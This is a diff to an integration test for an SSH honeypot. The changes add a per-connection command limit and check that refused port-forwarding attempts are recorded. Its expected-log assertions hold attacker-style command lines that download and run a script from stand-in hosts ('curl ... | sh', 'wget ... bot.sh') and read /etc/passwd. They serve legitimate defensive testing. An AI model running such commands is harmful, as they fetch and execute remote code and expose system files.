@@ -45,6 +45,7 @@ sessions_per_address = $PER_ADDRESS
 auth_attempts = 6
 session_bytes = 65536
 session_seconds = 10
+commands = 50
 [[accepted]]
 user = "root"
 password = "Winter2024!"
@@ -139,6 +140,11 @@ c.close()
 c = client()
 c.connect("127.0.0.1", port=port, username="admin", password="admin", look_for_keys=False,
           allow_agent=False, timeout=10)
+try:  # the honeypot as a proxy: refused, recorded
+    c.get_transport().open_channel("direct-tcpip", ("mail.example", 25), ("127.0.0.1", 4444), timeout=10)
+    sys.exit("a direct-tcpip channel was opened")
+except paramiko.ChannelException:
+    pass
 ch = c.invoke_shell(term="xterm")
 ch.settimeout(10)
 def until(marker):
@@ -160,7 +166,7 @@ if ch.recv_exit_status() != 0:
 c.close()
 PYTHON
 
-step "per-connection limits: the 7th password on one connection, 100 KB typed into a shell"
+step "per-connection limits: the 7th password on one connection, 100 KB typed into a shell, 60 commands"
 expect_exit 0 timeout 60 "$PY" - "$PORT" <<'PYTHON'
 import socket, sys, time, paramiko
 port = int(sys.argv[1])
@@ -200,9 +206,30 @@ while c.get_transport().is_active() and time.monotonic() < deadline:
 if c.get_transport().is_active():
     sys.exit("the connection is still open past session_bytes")
 PYTHON
+# 60 commands where 50 are allowed: the connection ends after the 50th.
+expect_exit 0 timeout 60 "$PY" - "$PORT" <<'PYTHON'
+import sys, time, paramiko
+c = paramiko.SSHClient()
+c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
+c.connect("127.0.0.1", port=int(sys.argv[1]), username="root", password="Winter2024!",
+          look_for_keys=False, allow_agent=False, timeout=10)
+ch = c.invoke_shell()
+try:
+    for _ in range(60):
+        ch.send("id\r")
+except (OSError, EOFError, paramiko.SSHException):
+    pass
+deadline = time.monotonic() + 10
+while c.get_transport().is_active() and time.monotonic() < deadline:
+    time.sleep(0.05)
+if c.get_transport().is_active():
+    sys.exit("the connection is still open past 50 commands")
+PYTHON
 limit_hit() { [[ $(count_of "$(action_is ssh-limit-reached) and e[\"mamori\"][\"ssh\"][\"limit\"] == \"$1\" and e[\"mamori\"][\"ssh\"][\"policy\"] == \"disconnect\"") -eq 1 ]]; }
 WAIT_ON=$HP_STATE wait_for "one auth-attempts limit event" limit_hit auth-attempts
 WAIT_ON=$HP_STATE wait_for "one session-bytes limit event" limit_hit session-bytes
+WAIT_ON=$HP_STATE wait_for "one commands limit event" limit_hit commands
+assert_eq 50 "$(count_of "$(action_is ssh-command) and e[\"process\"][\"command_line\"] == \"id\" and e[\"user\"][\"name\"] == \"root\"")" "root's recorded commands (the limit is 50)"
 assert_eq 6 "$(count_of "$(action_is ssh-login-failed) and e[\"user\"][\"name\"] == \"oracle\"")" "oracle's recorded tries"
 
 step "every session ended (and was reaped)"
@@ -214,7 +241,7 @@ for pw in 123456 password toor 'root;--'; do
   n=$(count_of "$(action_is ssh-login-failed) and e[\"mamori\"][\"ssh\"].get(\"password\") == \"$pw\" and e[\"user\"][\"name\"] == \"root\" and e[\"event\"][\"outcome\"] == \"failure\"")
   assert_eq 1 "$n" "ssh-login-failed events for password '$pw'"
 done
-assert_eq 1 "$(count_of "$(action_is ssh-login-succeeded) and e[\"user\"][\"name\"] == \"root\" and e[\"mamori\"][\"ssh\"][\"password\"] == \"Winter2024!\" and e[\"event\"][\"outcome\"] == \"success\"")" "root's accepted login"
+assert_eq 2 "$(count_of "$(action_is ssh-login-succeeded) and e[\"user\"][\"name\"] == \"root\" and e[\"mamori\"][\"ssh\"][\"password\"] == \"Winter2024!\" and e[\"event\"][\"outcome\"] == \"success\"")" "root's accepted logins (the exec, the 60 commands)"
 assert_eq 2 "$(count_of "$(action_is ssh-login-succeeded) and e[\"user\"][\"name\"] == \"admin\"")" "admin's accepted logins (the shell, the 100 KB one)"
 assert_eq 1 "$(count_of "$(action_is ssh-login-failed) and e[\"user\"][\"name\"] == \"git\" and e[\"mamori\"][\"ssh\"][\"auth_method\"] == \"publickey\" and e[\"mamori\"][\"ssh\"][\"key_type\"] == \"ssh-ed25519\" and e[\"mamori\"][\"ssh\"][\"key_fingerprint\"] == \"$want_fp\"")" "the public-key attempt with its fingerprint $want_fp"
 assert_eq 1 "$(count_of "$(action_is ssh-command) and e[\"process\"][\"command_line\"] == \"uname -a; id; wget http://malware.example/bot.sh -O /tmp/.x; cat /etc/passwd\" and e[\"user\"][\"name\"] == \"root\"")" "the exec'ed command line"
@@ -222,6 +249,7 @@ for cmd in whoami pwd 'curl -fsSL http://203.0.113.5/x | sh' nosuchcmd exit; do
   assert_eq 1 "$(count_of "$(action_is ssh-command) and e[\"process\"][\"command_line\"] == \"$cmd\" and e[\"user\"][\"name\"] == \"admin\"")" "the shell command '$cmd'"
 done
 assert_eq 1 "$(count_of "$(action_is ssh-download-attempted) and e[\"url\"][\"original\"] == \"http://malware.example/bot.sh\"")" "wget's download attempt"
+assert_eq 1 "$(count_of "$(action_is ssh-forward-attempted) and e[\"destination\"][\"address\"] == \"mail.example\" and e[\"destination\"][\"port\"] == 25 and e[\"user\"][\"name\"] == \"admin\"")" "the refused port forwarding"
 assert_eq 1 "$(count_of "$(action_is ssh-download-attempted) and e[\"url\"][\"original\"] == \"http://203.0.113.5/x\"")" "curl's download attempt"
 n=$(count_of "$(action_is ssh-connection) and e[\"mamori\"][\"ssh\"].get(\"client_version\", \"\").startswith(\"SSH-2.0-OpenSSH_\") and len(e[\"mamori\"][\"ssh\"].get(\"hassh\", \"\")) == 32")
 [[ $n -ge 5 ]] || fail "expected >= 5 connections from OpenSSH's client with a HASSH, got $n"
